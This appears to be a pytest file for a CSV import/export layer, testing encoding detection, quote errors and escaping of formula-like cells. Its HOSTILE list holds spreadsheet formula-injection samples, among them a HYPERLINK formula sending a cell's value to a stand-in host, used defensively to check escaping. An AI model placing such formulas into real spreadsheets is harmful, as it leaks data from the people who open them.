"""CSV read strictly (encodings, quotes) and written safely (formula-like cells)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
import yaml

from stakegraph.errors import WorkspaceInvalid
from stakegraph.io import load_workspace, save_workspace
from stakegraph.io.cells import _csv_cell, escape_cell, unescape_cell
from stakegraph.io.csv_folder import PLAUSIBLE_SHARE, decode_csv, read_csv_folder
from tests.builders import cli_runner, snapshot

run = cli_runner(catch_exceptions=False)


def _persons(tmp_path: Path, data: bytes) -> Path:
    folder = tmp_path / "ws"
    folder.mkdir()
    (folder / "persons.csv").write_bytes(data)
    return folder


WESTERN = "id,name\nhelene,Hélène Müller\n"


# --- encodings -----------------------------------------------------------------------


def test_windows_1252_is_refused_not_read_as_chinese(tmp_path: Path) -> None:
    folder = _persons(tmp_path, WESTERN.encode("cp1252"))
    raws, problems = read_csv_folder(folder)
    assert raws == []
    [problem] = problems
    assert str(problem.location) == "persons.csv:2"
    assert "not UTF-8" in problem.message
    assert "--encoding" in problem.hint


def test_the_named_encoding_reads_it(tmp_path: Path) -> None:
    folder = _persons(tmp_path, WESTERN.encode("cp1252"))
    raws, problems = read_csv_folder(folder, encoding="cp1252")
    assert problems == []
    assert raws[0].data["name"] == "Hélène Müller"


def test_the_command_line_takes_the_encoding(tmp_path: Path) -> None:
    folder = _persons(tmp_path, WESTERN.encode("cp1252"))
    refused = run("check", folder)
    assert refused.exit_code == 1
    assert "--encoding" in refused.stderr and "Traceback" not in refused.output
    out = tmp_path / "out"
    result = run("--encoding", "cp1252", "convert", folder, out)
    assert result.exit_code == 0, result.output
    assert "name: Hélène Müller" in (out / "persons.yaml").read_text(encoding="utf-8")
    # the next run detects again: the option does not outlive its command
    assert run("check", folder).exit_code == 1


def test_an_unknown_encoding_name_is_a_usage_error(tmp_path: Path) -> None:
    folder = _persons(tmp_path, WESTERN.encode("utf-8"))
    result = run("--encoding", "klingon", "check", folder)
    assert result.exit_code == 2
    assert "'klingon' is not an encoding" in result.output


def test_a_wrong_named_encoding_is_located(tmp_path: Path) -> None:
    folder = _persons(tmp_path, "id,name\nli,李明\n".encode("gb18030"))
    _, problems = read_csv_folder(folder, encoding="ascii")
    assert [str(p.location) for p in problems] == ["persons.csv:2"]
    assert "is neither UTF-8 nor ascii text" in problems[0].message


def test_utf8_files_stay_utf8_when_an_encoding_is_named(tmp_path: Path) -> None:
    # one file re-saved by a Western Excel, the others as written
    folder = _persons(tmp_path, WESTERN.encode("cp1252"))
    (folder / "organisations.csv").write_bytes("id,name\nbdb,大数据局\n".encode("utf-8-sig"))
    raws, problems = read_csv_folder(folder, encoding="cp1252")
    assert problems == []
    assert {r.data["name"] for r in raws} == {"大数据局", "Hélène Müller"}


@pytest.mark.parametrize(
    "data",
    [
        "id,name\nli,李明\n".encode(),
        "id,name\nli,李明\n".encode("utf-8-sig"),
        "id,name\nli,李明\n".encode("gb18030"),
    ],
    ids=["utf-8", "utf-8-bom", "gb18030"],
)
def test_utf8_with_or_without_mark_and_chinese_gb18030_are_detected(
    tmp_path: Path, data: bytes
) -> None:
    raws, problems = read_csv_folder(_persons(tmp_path, data))
    assert problems == []
    assert raws[0].data["name"] == "李明"


def _share(common: int, rare: int) -> bytes:
    # 李 is common (GB2312); 喆 only in GBK's extension, though names use it
    return f"id,name\np,{'李' * common}{'喆' * rare}\n".encode("gb18030")


def test_chinese_with_a_few_rare_characters_is_read_at_the_boundary() -> None:
    assert PLAUSIBLE_SHARE == 0.9
    text, problem = decode_csv(_share(9, 1), "p.csv")
    assert problem is None and text.endswith("李李李李李李李李李喆\n")


def test_chinese_with_too_many_rare_characters_needs_the_encoding() -> None:
    text, problem = decode_csv(_share(8, 2), "p.csv")
    assert text == "" and problem is not None
    text, problem = decode_csv(_share(8, 2), "p.csv", "gb18030")
    assert problem is None and "喆喆" in text


def test_log_import_takes_the_encoding(yaml_ws: Path, tmp_path: Path) -> None:
    source = tmp_path / "visits.csv"
    source.write_bytes(
        "id,date,kind,persons,notes\nv9,2026-11-27,visit,he-jing,Réunion café\n".encode("cp1252")
    )
    before = snapshot(yaml_ws)
    refused = run("log", yaml_ws, "--import", source)
    assert refused.exit_code == 1
    assert "visits.csv:2" in refused.stderr and "--encoding" in refused.stderr
    assert snapshot(yaml_ws) == before
    result = run("log", yaml_ws, "--import", source, "--encoding", "cp1252")
    assert result.exit_code == 0, result.output
    assert "Réunion café" in (yaml_ws / "interactions.yaml").read_text(encoding="utf-8")


def test_surveys_import_takes_the_encoding(yaml_ws: Path, tmp_path: Path) -> None:
    source = tmp_path / "results.csv"
    source.write_bytes(
        "date,person,service,notes\n2026-11-27,he-jing,4,très bien\n".encode("cp1252")
    )
    refused = run("surveys", yaml_ws, "--import", source)
    assert refused.exit_code == 1 and "--encoding" in refused.stderr
    result = run("surveys", yaml_ws, "--import", source, "--encoding", "cp1252", "--json")
    assert result.exit_code == 0, result.output
    assert "très bien" in (yaml_ws / "surveys.yaml").read_text(encoding="utf-8")


# --- quotes --------------------------------------------------------------------------


def test_an_unclosed_quote_is_located_not_swallowed(tmp_path: Path) -> None:
    folder = _persons(
        tmp_path, 'id,name,notes\nli,李明,"met at\nwang,王芳,ok\nzhao,赵磊,fine\n'.encode()
    )
    raws, problems = read_csv_folder(folder)
    [problem] = problems
    assert str(problem.location) == "persons.csv:2"
    assert "never closed" in problem.message


def test_a_quote_closed_rows_later_is_located(tmp_path: Path) -> None:
    text = 'id,name,notes\nli,李明,"met at\nwang,王芳,ok\nzhao,赵磊,"fine",x\n'
    _, problems = read_csv_folder(_persons(tmp_path, text.encode()))
    [problem] = problems
    assert str(problem.location) == "persons.csv:2"
    assert "ends on line 4" in problem.message


def test_a_quoted_cell_over_several_lines_still_reads(tmp_path: Path) -> None:
    text = 'id,name,notes\nli,李明,"two\nlines, ""quoted"""\nwang,王芳,ok\n'
    raws, problems = read_csv_folder(_persons(tmp_path, text.encode()))
    assert problems == []
    assert [r.data.get("notes") for r in raws] == ['two\nlines, "quoted"', "ok"]
    assert raws[1].location.row == 3


# --- formula-like cells ----------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\tindented",
    "\rreturn",
    "'=already quoted",
    "''=twice",
    "'just an apostrophe'",
    "a=b",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_escape_and_unescape_are_inverse(text: str) -> None:
    written = escape_cell(text)
    assert written[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert unescape_cell(written) == text


def test_numbers_are_written_as_numbers() -> None:
    assert [_csv_cell(v) for v in (-1, -0.5, 3)] == ["-1", "-0.5", "3"]
    assert _csv_cell(["=a", "b"]) == "'=a; b"


def test_formula_like_names_are_neutralised_and_read_back(tmp_path: Path) -> None:
    source = tmp_path / "ws"
    source.mkdir()
    persons = [{"id": f"p{i}", "name": t, "tags": [t]} for i, t in enumerate(HOSTILE)]
    (source / "persons.yaml").write_text(yaml.safe_dump(persons), encoding="utf-8")
    ws = load_workspace(source)
    out = tmp_path / "out"
    save_workspace(ws, out, "csv")
    with (out / "persons.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [row["name"] for row in rows] + [row["tags"] for row in rows]
    assert all(c[:1] not in ("=", "+", "-", "@", "\t", "\r") for c in cells), cells
    assert rows[0]["name"].startswith("'=HYPERLINK")
    again = load_workspace(out)

    def names(w):
        return [(p.name, p.tags) for p in w.records["persons"].values()]

    assert names(again) == names(ws)
    assert [n for n, _ in names(ws)][:4] == HOSTILE[:4]


def test_a_refused_workspace_writes_nothing(tmp_path: Path) -> None:
    folder = _persons(tmp_path, WESTERN.encode("cp1252"))
    with pytest.raises(WorkspaceInvalid):
        load_workspace(folder)
